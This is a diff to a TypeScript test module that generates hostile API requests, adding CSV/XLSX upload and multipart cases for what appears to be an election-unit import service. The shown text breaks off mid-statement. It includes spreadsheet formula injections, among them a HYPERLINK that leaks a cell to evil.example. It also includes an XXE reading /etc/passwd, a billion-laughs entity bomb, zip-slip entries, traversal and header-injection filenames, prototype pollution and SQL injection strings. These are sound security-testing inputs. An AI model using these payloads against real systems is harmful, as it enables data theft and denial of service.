@@ -3,9 +3,12 @@
  *
  * A case starts from an endpoint's valid example (test/hostile/endpoints.ts) as a DraftRequest and
  * applies one Payload to it: one field set to a hostile value, or one generic change to the body,
- * the query string, the URL, the method or the headers.
+ * the query string, the URL, the method or the headers. Uploads (multipart/form-data bodies and the
+ * CSV and XLSX files they carry) are built in files.ts.
  */
-import type { EndpointSpec, FieldKind, FieldLocation, FieldSpec, HttpMethod, JsonValue } from './endpoints.js';
+import { gzipSync } from 'node:zlib';
+import type { EndpointSpec, ExampleFile, FieldKind, FieldLocation, FieldSpec, HttpMethod, JsonValue } from './endpoints.js';
+import { csv, MULTIPART_BOUNDARY, multipartBody, xlsx, sheetRows, zip, type MultipartPart } from './files.js';
 
 const KB = 1024;
 const MB = 1024 * KB;
@@ -21,9 +24,14 @@ export interface DraftRequest {
   readonly query: readonly string[];
   /** Members of the JSON object body, each value as raw JSON text; null: no body. */
   readonly members: ReadonlyArray<readonly [string, string]> | null;
-  /** A body sent instead of the members (malformed JSON, other formats). */
-  readonly rawBody?: string;
-  /** undefined: application/json when there is a body; null: no Content-Type header at all. */
+  /** Parts of a multipart/form-data body, in order; null: not multipart. Sent instead of the members. */
+  readonly parts: readonly MultipartPart[] | null;
+  /** A body sent instead of the members or parts (malformed JSON, other formats). */
+  readonly rawBody?: string | Uint8Array;
+  /**
+   * undefined: application/json for members, multipart/form-data with its boundary for parts;
+   * null: no Content-Type header at all.
+   */
   readonly contentType?: string | null;
   readonly headers: Readonly<Record<string, string>>;
   /** Rewrites the finished path and query (route-level payloads). */
@@ -42,6 +50,12 @@ export interface Payload {
   readonly credential?: (session: string | null) => Credential;
   /** True when the request must be refused (≥ 400) whatever else happens. */
   readonly mustFail?: (endpoint: EndpointSpec, session: string | null) => boolean;
+  /**
+   * What it changes is read only past the sign-in check: a field value (which, once valid, reaches
+   * the handler) or an uploaded body (which the handler parses). For a session endpoint such a case
+   * is always signed in; anonymously it would stop at the check and test nothing.
+   */
+  readonly pastSignIn?: boolean;
 }
 
 /* ------------------------------------------------------------------------------------------------
@@ -60,6 +74,8 @@ export type FieldValue =
   | { readonly as: 'encoded'; readonly text: string }
   /** The field's `name=value` pairs in the query string replaced verbatim (duplicates, brackets). */
   | { readonly as: 'pairs'; readonly text: string }
+  /** A whole file (name, media type, bytes); file fields only. */
+  | { readonly as: 'file'; readonly file: ExampleFile }
   /** The field left out. */
   | { readonly as: 'omit' };
 
@@ -75,12 +91,14 @@ const encoded = (label: string, value: string): HostileValue => ({ label, value:
 
 /** Where each way of writing a value can go. */
 const LOCATIONS: Record<FieldValue['as'], readonly FieldLocation[]> = {
-  text: ['path', 'query', 'body'],
+  // In a file field, a text value becomes one cell of an otherwise clean CSV file (see fileCell).
+  text: ['path', 'query', 'body', 'file'],
   json: ['body'],
   rawJson: ['body'],
   encoded: ['path', 'query'],
   pairs: ['query'],
-  omit: ['query', 'body'],
+  file: ['file'],
+  omit: ['query', 'body', 'file'],
 };
 
 export const UNICODE_VALUES: readonly HostileValue[] = [
@@ -233,6 +251,125 @@ function enumValues(field: FieldSpec): HostileValue[] {
   ];
 }
 
+/* ------------------------------------------------------------------------------------------------
+ * Files (CSV and XLSX uploads)
+ * ---------------------------------------------------------------------------------------------- */
+
+const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+const IMPORT_HEADER = ['agency', 'region', 'name'] as const;
+const fileValue = (label: string, filename: string, contentType: string, content: string | Uint8Array): HostileValue => ({
+  label, value: { as: 'file', file: { filename, contentType, content } },
+});
+const csvFile = (label: string, content: string | Uint8Array) => fileValue(label, 'units.csv', 'text/csv', content);
+const xlsxFile = (label: string, content: Uint8Array) => fileValue(label, 'units.xlsx', XLSX_TYPE, content);
+/** A row that would import cleanly but for its name. */
+const unitRow = (name: string): string[] => ['BAWASLU', '51.06', name];
+const rowsOf = (count: number, name: (i: number) => string) => Array.from({ length: count }, (_, i) => unitRow(name(i)));
+/** Deterministic bytes that are neither text nor any known format. */
+const junk = (length: number) => Uint8Array.from({ length }, (_, i) => (i * 131 + 7 + (i >> 8)) & 255);
+
+/** Exactly `bytes` bytes of CSV: a clean header and one row whose name fills the rest. */
+function csvOfSize(bytes: number): string {
+  const head = `${IMPORT_HEADER.join(',')}\nBAWASLU,51.06,`;
+  return `${head}${'n'.repeat(bytes - head.length - 1)}\n`;
+}
+
+const FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '=HYPERLINK("http://evil.example/?"&A1,"klik")', '\t=1+1'];
+
+/** Hostile uploads: wrong formats, broken encodings, the size and row limits, formulas, XML attacks. */
+function spreadsheetValues(field: FieldSpec): HostileValue[] {
+  const maxBytes = field.maxLength ?? 5 * MB;
+  const clean = csv([IMPORT_HEADER, unitRow('Panwascam Susut (hostile)')]);
+  const cleanXlsx = xlsx({ sheetData: sheetRows([IMPORT_HEADER, unitRow('Panwascam Susut (hostile)')]) });
+  const utf16 = (text: string, bigEndian: boolean) => {
+    const le = Buffer.from(text, 'utf16le');
+    return bigEndian ? Buffer.from(le).swap16() : Buffer.concat([Buffer.from([0xff, 0xfe]), le]);
+  };
+  return [
+    csvFile('<empty file>', ''),
+    csvFile('<binary junk>', junk(4 * KB)),
+    csvFile('<zip that is no workbook>', zip([{ name: 'readme.txt', content: 'not a workbook' }])),
+    csvFile('<zip magic then junk>', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), junk(512)])),
+    xlsxFile('<truncated XLSX>', cleanXlsx.subarray(0, Math.floor(cleanXlsx.length / 2))),
+    xlsxFile('<XLSX, clean>', cleanXlsx),
+    xlsxFile('<XLSX with formula cells>', xlsx({
+      sheetData: sheetRows([IMPORT_HEADER, ...FORMULAS.map((formula, i) => ['KPU', '51.06', { formula: formula.replace(/^[\t=@+-]+/, ''), cached: `Unit ${i}` }])]),
+    })),
+    xlsxFile('<XLSX with formula text in cells>', xlsx({ sheetData: sheetRows([IMPORT_HEADER, ...FORMULAS.map((formula) => unitRow(formula))]) })),
+    xlsxFile('<XLSX of 10,001 rows>', xlsx({ sheetData: sheetRows([IMPORT_HEADER, ...rowsOf(10_001, (i) => `Unit ${i}`)]) })),
+    xlsxFile('<XLSX without a workbook part>', xlsx({ withoutWorkbook: true, sheetData: sheetRows([IMPORT_HEADER]) })),
+    xlsxFile('<XLSX with an external entity (XXE)>', xlsx({
+      doctype: '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+      sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="inlineStr"><is><t>KPU</t></is></c><c r="B2" t="inlineStr"><is><t>51.06</t></is></c><c r="C2" t="inlineStr"><is><t>&xxe;</t></is></c></row>`,
+    })),
+    xlsxFile('<XLSX with nested entities (billion laughs)>', xlsx({
+      doctype: `<!DOCTYPE worksheet [<!ENTITY a "${'a'.repeat(10)}">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>`,
+      sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="inlineStr"><is><t>&j;</t></is></c></row>`,
+    })),
+    xlsxFile('<XLSX whose sheet inflates to 32 MiB>', xlsx({ sheetData: `${sheetRows([IMPORT_HEADER])}${' '.repeat(32 * MB)}` })),
+    xlsxFile('<XLSX with a cell at XFD1048576>', xlsx({ sheetData: `${sheetRows([IMPORT_HEADER])}<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>` })),
+    xlsxFile('<XLSX with a shared string that is not there>', xlsx({ sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="s"><v>999999</v></c></row>` })),
+    xlsxFile('<XLSX with numbers and booleans for codes>', xlsx({
+      sheetData: `${sheetRows([IMPORT_HEADER])}<row r="2"><c r="A2" t="b"><v>1</v></c><c r="B2"><v>51.06</v></c><c r="C2"><v>1e309</v></c></row>`,
+    })),
+    xlsxFile('<XLSX with zip-slip entry names and a macro part>', xlsx({
+      sheetData: sheetRows([IMPORT_HEADER, unitRow('Panwascam Kintamani (hostile)')]),
+      extra: [
+        { name: '../../../../tmp/sinergi-hostile.txt', content: 'zip slip' },
+        { name: '/etc/sinergi-hostile', content: 'absolute' },
+        { name: 'xl/vbaProject.bin', content: junk(256) },
+      ],
+    })),
+    xlsxFile('<XLSX with __proto__ and constructor headers>', xlsx({
+      sheetData: sheetRows([['__proto__', 'constructor', ...IMPORT_HEADER], ['{"admin":true}', 'x', ...unitRow('Proto unit')]]),
+    })),
+    csvFile('<CSV with formula cells>', csv([IMPORT_HEADER, ...FORMULAS.map((formula) => unitRow(formula))])),
+    csvFile('<CSV of 10,000 rows, the limit>', csv([IMPORT_HEADER, ...rowsOf(10_000, (i) => `Unit ${i}`)])),
+    csvFile('<CSV of 10,001 rows, one over>', csv([IMPORT_HEADER, ...rowsOf(10_001, (i) => `Unit ${i}`)])),
+    csvFile('<CSV in UTF-16 LE with a byte order mark>', utf16(clean, false)),
+    csvFile('<CSV in UTF-16 BE without a byte order mark>', utf16(clean, true)),
+    csvFile('<CSV in Latin-1>', Buffer.from(csv([IMPORT_HEADER, unitRow('Kantor Dénpasar – Sélatan')]), 'latin1')),
+    csvFile('<CSV with a lone surrogate as UTF-8 bytes>', Buffer.concat([Buffer.from(`${IMPORT_HEADER.join(',')}\nKPU,51.06,ab`), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('\n')])),
+    csvFile('<CSV with a NUL byte in a cell>', csv([IMPORT_HEADER, unitRow('Bang\u0000li')])),
+    csvFile('<CSV with an unclosed quote>', `${IMPORT_HEADER.join(',')}\nKPU,51.06,"never closed\n`),
+    csvFile('<CSV with the header only>', `${IMPORT_HEADER.join(',')}\n`),
+    csvFile('<CSV of a byte order mark only>', '\uFEFF'),
+    csvFile('<CSV of blank lines only>', '\n\r\n\n   \n'),
+    csvFile('<CSV without the name column>', 'agency,region\nKPU,51.06\n'),
+    csvFile('<CSV with __proto__ and constructor columns>', csv([['__proto__', 'constructor', 'prototype', ...IMPORT_HEADER], ['admin', 'x', 'y', ...unitRow('Proto unit')]])),
+    csvFile('<CSV with 10,000 columns>', csv([[...IMPORT_HEADER, ...Array.from({ length: 9_997 }, (_, i) => `c${i}`)], unitRow('Wide unit')])),
+    csvFile('<CSV with one 4 MiB cell>', csv([IMPORT_HEADER, unitRow('w'.repeat(4 * MB))])),
+    csvFile('<CSV with CR line endings>', csv([IMPORT_HEADER, unitRow('Carriage unit')]).replaceAll('\n', '\r')),
+    csvFile('<CSV with semicolons and commas in cells>', 'agency;region;name\nKPU;51.06;"Unit, with; both"\nKPU;51,06;x\n'),
+    csvFile('<CSV with ragged rows>', `${IMPORT_HEADER.join(',')}\nKPU\nKPU,51.06,Ragged unit,extra,extra\n,,\n`),
+    csvFile('<CSV of 1,000 duplicate rows>', csv([IMPORT_HEADER, ...rowsOf(1_000, () => 'Same unit')])),
+    csvFile('<CSV with regions outside the gazetteer>', csv([IMPORT_HEADER, ['KPU', '99.99', 'x'], ['KPU', '00', 'y'], ['KPU', '51..06', 'z'], ['KPU', '51.06.01.2001.1', 'w']])),
+    csvFile('<CSV with multi-line quoted cells>', csv([IMPORT_HEADER, unitRow('line one\nline two\r\nline "three"')])),
+    csvFile(`<file of exactly ${maxBytes} bytes>`, csvOfSize(maxBytes)),
+    csvFile(`<file of ${maxBytes + 1} bytes, one over>`, csvOfSize(maxBytes + 1)),
+    csvFile('<PDF>', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
+    csvFile('<PNG>', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), junk(256)])),
+    csvFile('<gzip of a clean CSV>', gzipSync(clean)),
+    csvFile('<old XLS (OLE2) header>', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), junk(512)])),
+    csvFile('<Windows executable>', Buffer.concat([Buffer.from('MZ'), junk(510)])),
+    csvFile('<HTML page>', '<!doctype html><html><body><script>alert(1)</script></body></html>'),
+    fileValue('<XLSX bytes named units.csv>', 'units.csv', 'text/csv', cleanXlsx),
+    fileValue('<CSV bytes named units.xlsx>', 'units.xlsx', XLSX_TYPE, clean),
+  ];
+}
+
+/**
+ * A text value in a file field: one cell of an otherwise clean CSV file, in the agency, region or
+ * name column by turns, so that the hostile strings reach the row checks.
+ */
+function fileCell(hostile: HostileValue, index: number): HostileValue {
+  if (hostile.value.as !== 'text') return hostile;
+  const column = index % IMPORT_HEADER.length;
+  const cells = unitRow('Panwascam Tembuku (hostile)');
+  cells[column] = hostile.value.text;
+  return csvFile(`${IMPORT_HEADER[column]} cell ${hostile.label}`, csv([IMPORT_HEADER, cells]));
+}
+
 const KIND_VALUES: Record<FieldKind, (field: FieldSpec) => HostileValue[]> = {
   regionCode: () => [
     text('<trailing dot>', '51.06.'),
@@ -268,7 +405,7 @@ const KIND_VALUES: Record<FieldKind, (field: FieldSpec) => HostileValue[]> = {
     text('<many words>', Array.from({ length: 50 }, (_, i) => `w${i}`).join(' ')),
     ...lengthValues(field),
   ],
-  int: (field) => [
+  int: (field) => (field.in === 'body' ? intBodyValues(field) : [
     text('<-1>', '-1'),
     text('<0>', '0'),
     text('<1.5>', '1.5'),
@@ -285,9 +422,11 @@ const KIND_VALUES: Record<FieldKind, (field: FieldSpec) => HostileValue[]> = {
     text('<full-width ５>', '５'),
     text('<Devanagari २>', '२'),
     text('<leading zeros>', '0000000000007'),
+    text('<2^31 - 1>', String(INT4_MAX)),
+    text('<2^31, past a PostgreSQL integer>', String(INT4_MAX + 1)),
     ...(field.max !== undefined ? [text('<max + 1>', String(field.max + 1))] : []),
     ...(field.min !== undefined ? [text('<min - 1>', String(field.min - 1))] : []),
-  ],
+  ]),
   enum: enumValues,
   email: (field) => [
     text('<no domain>', 'admin@'),
@@ -313,18 +452,127 @@ const KIND_VALUES: Record<FieldKind, (field: FieldSpec) => HostileValue[]> = {
     text('<right one in NFKD>', 'correct horse battery staple'.normalize('NFKD')),
     ...lengthValues(field),
   ],
+  uuid: () => [
+    text('<nil uuid>', '00000000-0000-0000-0000-000000000000'),
+    text('<max uuid>', 'ffffffff-ffff-ffff-ffff-ffffffffffff'),
+    text('<unknown, well-formed v4>', '0d1f0c6a-4b7e-4c55-9a51-7a0b3c9d2e11'),
+    text('<version 7>', '01890a5d-ac96-774b-bcce-b302099a8057'),
+    text('<upper case>', 'C0FFEE00-0000-4000-8000-000000000001'),
+    text('<braces>', '{c0ffee00-0000-4000-8000-000000000001}'),
+    text('<no dashes>', 'c0ffee00000040008000000000000001'),
+    text('<urn:uuid: prefix>', 'urn:uuid:c0ffee00-0000-4000-8000-000000000001'),
+    text('<variant bits 0>', 'c0ffee00-0000-4000-0000-000000000001'),
+    text('<not hex>', 'g0ffee00-0000-4000-8000-000000000001'),
+    text('<one digit short>', 'c0ffee00-0000-4000-8000-00000000001'),
+    text('<dashes moved>', 'c0ffee000-000-4000-8000-000000000001'),
+    text('<trailing newline>', 'c0ffee00-0000-4000-8000-000000000001\n'),
+  ],
+  datetime: () => [
+    text('<no offset>', '2024-11-27T08:00:00'),
+    text('<date only>', '2024-11-27'),
+    text('<lower-case t and z>', '2024-11-27t08:00:00z'),
+    text('<space for T>', '2024-11-27 08:00:00Z'),
+    text('<offset without colon>', '2024-11-27T08:00:00+0800'),
+    text('<February 30>', '2024-02-30T00:00:00Z'),
+    text('<February 29, no leap year>', '2023-02-29T00:00:00Z'),
+    text('<month 13>', '2024-13-01T00:00:00Z'),
+    text('<hour 24>', '2024-11-27T24:00:00Z'),
+    text('<leap second>', '2016-12-31T23:59:60Z'),
+    text('<offset +23:59>', '2024-11-27T08:00:00+23:59'),
+    text('<offset +99:99>', '2024-11-27T08:00:00+99:99'),
+    text('<year 0000>', '0000-01-01T00:00:00Z'),
+    text('<year 0001>', '0001-01-01T00:00:00Z'),
+    text('<year 9999 pushed past by its offset>', '9999-12-31T23:59:59-23:59'),
+    text('<expanded year +010000>', '+010000-01-01T00:00:00Z'),
+    text('<negative year>', '-000001-01-01T00:00:00Z'),
+    text('<nanoseconds>', '2024-11-27T08:00:00.123456789Z'),
+    text('<1000 fraction digits>', `2024-11-27T08:00:00.${'1'.repeat(1000)}Z`),
+    text('<unix seconds>', '1732694400'),
+    text('<Indonesian date>', '27 Nop 2024 08.00 WITA'),
+  ],
+  phone: () => [
+    text('<letters>', 'call me maybe'),
+    text('<too short>', '0812'),
+    text('<plus only>', '+'),
+    text('<two plus signs>', '++62 812 3456 7890'),
+    text('<30 digits>', '0'.repeat(30)),
+    text('<31 digits>', '0'.repeat(31)),
+    text('<full-width phone number>', '０８１２３４５６７８９０'),
+    text('<Arabic-Indic phone number>', '٠٨١٢٣٤٥٦٧٨٩٠'),
+    text('<newline inside>', '0812\n34567890'),
+    text('<tel: URI>', 'tel:+6281234567890'),
+    text('<extension>', '+62 812-3456-7890 ext. 12'),
+    text('<a digit then punctuation>', '0 ....----(((('),
+  ],
+  spreadsheet: spreadsheetValues,
 };
 
-/** Every hostile value for one field, in the ways its location can carry. */
-export function fieldValues(field: FieldSpec): HostileValue[] {
-  const values: HostileValue[] = [
-    ...(field.in === 'path' ? [] : [{ label: '<missing>', value: { as: 'omit' } } satisfies HostileValue]),
-    ...GENERIC_STRING_VALUES,
-    ...KIND_VALUES[field.kind](field),
-    ...(field.in === 'body' ? [...WRONG_TYPE_VALUES, text('<1 MB+ string>', 'z'.repeat(OVER_BODY_LIMIT))] : []),
-    ...(field.in === 'query' ? queryShapeValues(field.name) : []),
+const INT4_MAX = 2_147_483_647;
+
+/** Integers in a JSON body: numbers (wrong types and strings come from the generic values). */
+function intBodyValues(field: FieldSpec): HostileValue[] {
+  return [
+    json('<2^31 - 1>', INT4_MAX),
+    json('<2^31, past a PostgreSQL integer>', INT4_MAX + 1),
+    json('<2^32 + 1>', 2 ** 32 + 1),
+    json('<2^53>', 2 ** 53),
+    rawJson('<2^53 + 1>', '9007199254740993'),
+    rawJson('<1e21>', '1e21'),
+    rawJson('<1.0>', '1.0'),
+    rawJson('<1E0>', '1E0'),
+    text('<digits in a string "7">', '7'),
+    ...(field.max !== undefined ? [json('<max + 1>', field.max + 1)] : []),
+    ...(field.min !== undefined ? [json('<min - 1>', field.min - 1)] : []),
   ];
-  return values.filter((v) => LOCATIONS[v.value.as].includes(field.in));
+}
+
+/** The values of `values` with these labels, in this order; a label that is not there is a mistake in this file. */
+function pick(values: readonly HostileValue[], labels: readonly string[]): HostileValue[] {
+  return labels.map((label) => {
+    const found = values.find((v) => v.label === label);
+    if (!found) throw new Error(`no hostile value labelled ${label}`);
+    return found;
+  });
+}
+
+/** Generic values that every field receives, however many fields its endpoint has. */
+const CORE_STRING_VALUES = pick(GENERIC_STRING_VALUES, [
+  '<empty>', '<spaces>', '<100 kB string>', '<lone high surrogate>', '<NUL>', '<invalid UTF-8 %FF%FE>', "<SQL ' OR 1=1 -->", '<LIKE %>',
+  '<script tag>', '"__proto__"', '"constructor"', '<../../etc/passwd>', '<lone %00>',
+]);
+const CORE_WRONG_TYPE_VALUES = pick(WRONG_TYPE_VALUES, ['<number 0>', '<null>', '<array of strings>', '<empty object>', '<object with __proto__>']);
+
+/** A field's hostile values: its own, which it always receives, and generic ones it may share with the other fields of its endpoint. */
+export interface FieldValueSets {
+  readonly own: readonly HostileValue[];
+  /** Keyed by where the value comes from, so that the same value offered to two fields has the same key. */
+  readonly shared: ReadonlyArray<readonly [key: string, value: HostileValue]>;
+}
+
+export function fieldValueSets(field: FieldSpec): FieldValueSets {
+  const fits = (v: HostileValue) => LOCATIONS[v.value.as].includes(field.in);
+  const keyed = (group: string, values: readonly HostileValue[]) => values.map((v, i) => [`${group}:${i}`, v] as const);
+  const core = new Set<HostileValue>([...CORE_STRING_VALUES, ...CORE_WRONG_TYPE_VALUES]);
+  const shapes = field.in === 'query' ? queryShapeValues(field.name) : [];
+  let own: HostileValue[] = [
+    ...(field.in === 'path' ? [] : [{ label: '<missing>', value: { as: 'omit' } } satisfies HostileValue]),
+    ...CORE_STRING_VALUES,
+    ...KIND_VALUES[field.kind](field),
+    ...(field.in === 'body' ? [...CORE_WRONG_TYPE_VALUES, text('<1 MB+ string>', 'z'.repeat(OVER_BODY_LIMIT))] : []),
+    ...shapes.slice(0, 3),
+  ].filter(fits);
+  let shared = [
+    ...keyed('generic', GENERIC_STRING_VALUES),
+    ...(field.in === 'body' ? keyed('wrong type', WRONG_TYPE_VALUES) : []),
+    ...keyed('query shape', shapes.slice(3)),
+  ].filter(([, v]) => !core.has(v) && fits(v));
+  if (field.in === 'file') {
+    own = own.map(fileCell);
+    shared = shared.map(([key, v], i) => [key, fileCell(v, i)] as const);
+  }
+  // A kind's value may repeat a generic one: the field gets it once.
+  const ownLabels = new Set(own.map((v) => v.label));
+  return { own, shared: shared.filter(([, v]) => !ownLabels.has(v.label)) };
 }
 
 /** A query parameter given twice, as an array or an object, or without a value. */
@@ -365,14 +613,48 @@ export function setField(draft: DraftRequest, field: FieldSpec, value: FieldValu
           : value.as === 'rawJson' ? value.text : 'null';
       return { ...draft, members: [...members, [field.name, raw]] };
     }
+    case 'file': {
+      const parts = (draft.parts ?? []).filter((part) => part.name !== field.name);
+      if (value.as === 'omit') return { ...draft, parts };
+      const file = value.as === 'file' ? value.file : { filename: 'units.csv', contentType: 'text/csv', content: value.as === 'text' ? value.text : '' };
+      return { ...draft, parts: [...parts, { name: field.name, ...file }] };
+    }
   }
 }
 
-export function fieldPayloads(field: FieldSpec): Payload[] {
-  return fieldValues(field).map((hostile) => ({
-    label: `${field.in}.${field.name} = ${hostile.label}`,
-    apply: (draft) => setField(draft, field, hostile.value),
-  }));
+function fieldPayload(field: FieldSpec, hostile: HostileValue): Payload {
+  return { label: `${field.in}.${field.name} = ${hostile.label}`, pastSignIn: true, apply: (draft) => setField(draft, field, hostile.value) };
+}
+
+/**
+ * Into how many turns the fields of an endpoint split the shared generic values: 1 = every field
+ * gets every value (the full cross product: about 9,400 cases, 40 s on PGlite); 2 = each value goes
+ * to half of the fields that can carry it; a large number = to one field each. Raise it when the
+ * suite outgrows its minute rather than leave endpoints out.
+ */
+const FIELDS_PER_GENERIC_VALUE_DIVISOR = 1;
+
+/**
+ * The field payloads of one endpoint, sampled (see FIELDS_PER_GENERIC_VALUE_DIVISOR) so that an
+ * endpoint with many fields need not multiply its cases. Every field receives its own values
+ * (missing, its kind's values and limits, the core generic values); each other generic value goes
+ * to a share of the fields that can carry it (at least one), taking the fields in turn. So every
+ * value still reaches every endpoint, and the same table always gives the same cases.
+ */
+export function endpointFieldPayloads(fields: readonly FieldSpec[]): Payload[] {
+  const sets = fields.map(fieldValueSets);
+  const keys = [...new Set(sets.flatMap((set) => set.shared.map(([key]) => key)))];
+  const chosen = new Map<string, ReadonlySet<number>>();
+  keys.forEach((key, k) => {
+    const takers = sets.flatMap((set, i) => (set.shared.some(([other]) => other === key) ? [i] : []));
+    const copies = Math.ceil(takers.length / FIELDS_PER_GENERIC_VALUE_DIVISOR);
+    chosen.set(key, new Set(Array.from({ length: copies }, (_, c) => takers[(k + c) % takers.length] ?? -1)));
+  });
+  return fields.flatMap((field, i) => {
+    const set = sets[i]!;
+    const shared = set.shared.filter(([key]) => chosen.get(key)?.has(i)).map(([, v]) => v);
+    return [...set.own, ...shared].map((hostile) => fieldPayload(field, hostile));
+  });
 }
 
 /* ------------------------------------------------------------------------------------------------
@@ -383,7 +665,7 @@ function bodyText(draft: DraftRequest): string {
   return `{${(draft.members ?? []).map(([key, raw]) => `${JSON.stringify(key)}:${raw}`).join(',')}}`;
 }
 
-const withRawBody = (label: string, body: (draft: DraftRequest) => string, contentType?: string | null): Payload => ({
+const withRawBody = (label: string, body: (draft: DraftRequest) => string | Uint8Array, contentType?: string | null): Payload => ({
   label,
   apply: (draft) => ({ ...draft, rawBody: body(draft), contentType }),
 });
@@ -478,6 +760,114 @@ export function bodyOnReadPayloads(): Payload[] {
     withRawBody('<GET with a JSON body>', () => '{"__proto__":{"admin":true,"polluted":"yes"}}'),
     withRawBody('<GET with malformed JSON>', () => '{'),
     withRawBody('<GET with a 1 MB+ body>', () => '#'.repeat(OVER_BODY_LIMIT)),
+  ];
+}
+
+/* ------------------------------------------------------------------------------------------------
+ * multipart/form-data bodies (uploads)
+ * ---------------------------------------------------------------------------------------------- */
+
+const MULTIPART = `multipart/form-data; boundary=${MULTIPART_BOUNDARY}`;
+const isFilePart = (part: MultipartPart) => part.filename !== undefined;
+const DEFAULT_FILE: MultipartPart = { name: 'file', filename: 'units.csv', contentType: 'text/csv', content: '' };
+const fileOf = (draft: DraftRequest): MultipartPart => draft.parts?.find(isFilePart) ?? DEFAULT_FILE;
+const fileBytes = (draft: DraftRequest): Buffer => Buffer.from(fileOf(draft).content);
+const fileText = (draft: DraftRequest): string => fileBytes(draft).toString('utf8');
+const partsOf = (draft: DraftRequest): readonly MultipartPart[] => draft.parts ?? [];
+
+const withParts = (label: string, change: (parts: readonly MultipartPart[]) => MultipartPart[]): Payload => ({
+  label,
+  apply: (draft) => ({ ...draft, parts: change(partsOf(draft)) }),
+});
+const onFile = (label: string, change: (part: MultipartPart) => MultipartPart): Payload =>
+  withParts(label, (parts) => parts.map((part) => (isFilePart(part) ? change(part) : part)));
+/** The file part with its header lines as written. */
+const fileHeaders = (label: string, headers: (part: MultipartPart) => string, content?: (part: MultipartPart) => string | Uint8Array): Payload =>
+  onFile(label, (part) => ({ ...part, rawHeaders: headers(part), ...(content ? { content: content(part) } : {}) }));
+const disposition = (part: MultipartPart) => `Content-Disposition: form-data; name="${part.name}"; filename="${part.filename ?? ''}"`;
+
+/**
+ * Broken framing, odd parts and headers, and bodies that are not multipart at all: for upload
+ * endpoints, whose handler reads the body after the sign-in check (so these are past it).
+ */
+export function multipartPayloads(): Payload[] {
+  const body = (draft: DraftRequest) => multipartBody(partsOf(draft));
+  const closing = Buffer.byteLength(`--${MULTIPART_BOUNDARY}--\r\n`);
+  return multipartVariants(body, closing).map((payload) => ({ ...payload, pastSignIn: true }));
+}
+
+function multipartVariants(body: (draft: DraftRequest) => Buffer, closing: number): Payload[] {
+  return [
+    // Parts.
+    withParts('multipart: the file under another field name', (parts) => parts.map((part) => (isFilePart(part) ? { ...part, name: 'upload' } : part))),
+    withParts('multipart: the same file twice', (parts) => [...parts, ...parts.filter(isFilePart)]),
+    withParts('multipart: a second, different file', (parts) => [
+      ...parts, { name: 'file', filename: 'evil.csv', contentType: 'text/csv', content: 'agency,region,name\nKPU,99.99,Evil unit\n' },
+    ]),
+    withParts('multipart: the file as a plain field (no filename)', (parts) => parts.map((part) => (isFilePart(part) ? { name: part.name, content: part.content } : part))),
+    withParts('multipart: a text field before the file', (parts) => [{ name: 'note', content: 'catatan' }, ...parts]),
+    withParts('multipart: dryRun=false as a field', (parts) => [{ name: 'dryRun', content: 'false' }, ...parts]),
+    withParts('multipart: 11 text fields, then the file', (parts) => [...Array.from({ length: 11 }, (_, i) => ({ name: `f${i}`, content: String(i) })), ...parts]),
+    withParts('multipart: __proto__ and constructor fields', (parts) => [
+      { name: '__proto__', content: '{"admin":true,"polluted":"yes"}' }, { name: 'constructor', content: '{"prototype":{"admin":true}}' }, ...parts,
+    ]),
+    withParts('multipart: a field name of 10 kB', (parts) => [{ name: 'n'.repeat(10 * KB), content: 'x' }, ...parts]),
+    withParts('multipart: no parts at all', () => []),
+    withParts('multipart: only a text field', () => [{ name: 'file', content: 'agency,region,name' }]),
+    onFile('multipart: filename ../../../etc/passwd', (part) => ({ ...part, filename: '../../../etc/passwd' })),
+    onFile('multipart: filename C:\\Windows\\win.ini', (part) => ({ ...part, filename: 'C:\\Windows\\win.ini' })),
+    onFile('multipart: empty filename', (part) => ({ ...part, filename: '' })),
+    onFile('multipart: filename of 10 kB', (part) => ({ ...part, filename: `${'f'.repeat(10 * KB)}.csv` })),
+    onFile('multipart: filename with NUL', (part) => ({ ...part, filename: 'units.csv\u0000.exe' })),
+    onFile('multipart: filename with an RTL override', (part) => ({ ...part, filename: 'units\u202Evsc.exe' })),
+    onFile('multipart: filename with a quote', (part) => ({ ...part, filename: 'a".csv' })),
+    onFile('multipart: header injection in the filename', (part) => ({ ...part, filename: 'units.csv"\r\nContent-Type: text/html\r\nX-Injected: 1' })),
+    onFile('multipart: part type application/x-msdownload', (part) => ({ ...part, contentType: 'application/x-msdownload' })),
+    onFile('multipart: part type text/html', (part) => ({ ...part, contentType: 'text/html' })),
+    onFile('multipart: part type multipart/mixed', (part) => ({ ...part, contentType: 'multipart/mixed; boundary=inner' })),
+    fileHeaders('multipart: no part content type', disposition),
+    fileHeaders('multipart: RFC 2231 filename*', (part) => `Content-Disposition: form-data; name="${part.name}"; filename*=UTF-8''%E2%80%AE%2e%2e%2fetc%2fpasswd\r\nContent-Type: text/csv`),
+    fileHeaders('multipart: no Content-Disposition', () => 'Content-Type: text/csv'),
+    fileHeaders('multipart: Content-Disposition without a name', (part) => `Content-Disposition: form-data; filename="${part.filename ?? ''}"`),
+    fileHeaders('multipart: name given twice', (part) => `Content-Disposition: form-data; name="other"; name="${part.name}"; filename="units.csv"`),
+    fileHeaders('multipart: a 20 kB header line', (part) => `${disposition(part)}\r\nX-Pad: ${'h'.repeat(20 * KB)}`),
+    fileHeaders('multipart: 1000 header lines', (part) => [disposition(part), ...Array.from({ length: 1000 }, (_, i) => `X-H${i}: ${i}`)].join('\r\n')),
+    fileHeaders(
